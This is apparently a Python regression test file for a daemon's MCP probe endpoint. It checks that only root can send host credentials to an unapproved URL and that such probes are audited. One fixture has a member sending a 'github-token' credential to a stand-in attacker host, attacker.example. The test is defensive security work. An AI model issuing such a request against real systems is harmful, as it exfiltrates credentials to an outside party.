"""A probe of a remote MCP server sends the credentials it names to the URL it names, before
any approval. Any admin-group member may probe, and a member cannot read the host's
credentials: a probe was a way to send any of them anywhere (found by a review). Now only root
may send credentials not approved for that URL; the audit record names the URL and the
credentials."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest

from ironclaw.admin.v1 import admin_pb2
from ironclawd.api import auth
from ironclawd.api.admin_mcp import McpMixin
from ironclawd.api.peer import Caller
from ironclawd.domain.agents import AgentSpec
from ironclawd.domain.mcp import McpLimits, McpServer
from ironclawd.errors import McpServerFailed, PolicyDenied
from ironclawd.services.mcp_servers import McpSupervisor
from tests.fakes import RecordingAudit

URL = "https://mcp.example/mcp"
CREDENTIALS = [["Authorization", "github-token"]]
MEMBER = Caller(1001, 1001, 42, (999,), "mallory", True)
ROOT = Caller(0, 0, 43, (0,), "root", True)


class Launcher:
    """Records what a probe would open; connects nowhere."""

    def __init__(self) -> None:
        self.opened: list[tuple[str, tuple[tuple[str, str], ...]]] = []

    @contextlib.asynccontextmanager
    async def open(self, agent: str, server: McpServer) -> AsyncIterator[Any]:
        self.opened.append((server.url, server.credentials))
        raise McpServerFailed("recorded; not connecting")
        yield  # pragma: no cover

    async def stop(self, agent: str, server: McpServer) -> None:
        return None

    async def stop_all(self) -> None:
        return None


class Servicer(McpMixin):
    def __init__(self, spec: AgentSpec) -> None:
        self.launcher = Launcher()
        self._registry = {spec.name: spec}  # type: ignore[assignment]
        self._audit_trail = RecordingAudit()  # type: ignore[assignment]
        self._mcp = McpSupervisor(self.launcher, McpLimits())  # type: ignore[arg-type]


def _probe(servicer: Servicer, caller: Caller, server: dict[str, Any]) -> None:
    async def go() -> None:
        auth._CALLER.set(caller)
        request = admin_pb2.ProbeMcpServerRequest(agent="demo", server_json=json.dumps(server))
        with contextlib.suppress(McpServerFailed):
            await servicer.ProbeMcpServer(request, None)  # type: ignore[arg-type]

    asyncio.run(go())


def test_a_member_cannot_send_a_credential_to_a_url_never_approved_with_it() -> None:
    servicer = Servicer(AgentSpec("demo"))
    with pytest.raises(PolicyDenied, match=r"github-token.*only root"):
        _probe(servicer, MEMBER, {"name": "x", "url": "https://attacker.example/mcp",
                                  "credentials": CREDENTIALS})  # fmt: skip
    assert servicer.launcher.opened == []
    assert servicer._audit_trail.records == []  # type: ignore[attr-defined]


def test_root_may_and_the_audit_record_names_the_url_and_the_credentials() -> None:
    servicer = Servicer(AgentSpec("demo"))
    _probe(servicer, ROOT, {"name": "x", "url": URL, "credentials": CREDENTIALS})
    assert servicer.launcher.opened == [(URL, (("Authorization", "github-token"),))]
    (record,) = servicer._audit_trail.records  # type: ignore[attr-defined]
    assert record[0] == "mcp.probe"
    assert record[2]["url"] == URL
    assert record[2]["credentials"] == ["github-token"]


def test_a_member_may_probe_what_was_approved_or_without_credentials() -> None:
    registered = McpServer("x", url=URL, credentials=(("Authorization", "github-token"),))
    servicer = Servicer(AgentSpec("demo", mcp_servers=(registered,)))
    _probe(servicer, MEMBER, {"name": "x", "url": URL, "credentials": CREDENTIALS})
    _probe(servicer, MEMBER, {"name": "y", "url": "https://other.example/mcp"})
    assert [url for url, _ in servicer.launcher.opened] == [URL, "https://other.example/mcp"]
    with pytest.raises(PolicyDenied):  # the approved credential, but another URL
        _probe(servicer, MEMBER, {"name": "x", "url": "https://other.example/mcp",
                                  "credentials": CREDENTIALS})  # fmt: skip
